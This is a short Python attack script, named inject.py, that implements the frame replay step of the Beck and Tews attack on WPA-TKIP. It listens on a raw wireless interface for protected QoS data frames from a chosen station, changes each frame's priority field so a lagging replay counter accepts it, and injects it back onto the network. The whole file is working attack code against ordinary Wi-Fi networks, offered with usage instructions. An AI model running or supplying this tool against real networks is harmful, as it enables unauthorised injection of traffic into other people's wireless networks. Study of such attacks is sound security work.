"""An attacker of TKIP (Beck and Tews, WiSec 2009): an overheard frame, said again at a priority
whose replay counter is behind. The ICV holds, Michael's MIC covers the priority and does not.

Usage: inject.py INTERFACE SOURCE COUNT. Waits for a protected QoS data frame of SOURCE each time.
"""

import socket
import sys

RADIOTAP = bytes([0, 0, 10, 0, 0, 0x80, 0, 0, 0x18, 0])  # no ACK is awaited, the number stays
QOS_DATA, PROTECTED = 0x88, 0x40
PRIORITY = 5


def overhear(radio, source):
    while True:
        heard = radio.recv(4096)
        frame = heard[heard[2] | heard[3] << 8:]
        if (len(frame) > 34 and frame[0] == QOS_DATA and frame[1] & PROTECTED
                and frame[10:16] == source and frame[24] != PRIORITY):
            return frame


def main(interface, source, count):
    radio = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    radio.bind((interface, 0))
    radio.settimeout(30)
    print('listening', flush=True)
    for _ in range(int(count)):
        frame = overhear(radio, bytes.fromhex(source.replace(':', '')))
        radio.send(RADIOTAP + frame[:24] + bytes([PRIORITY]) + frame[25:])
        print('sent', flush=True)


if __name__ == '__main__':
    main(*sys.argv[1:])
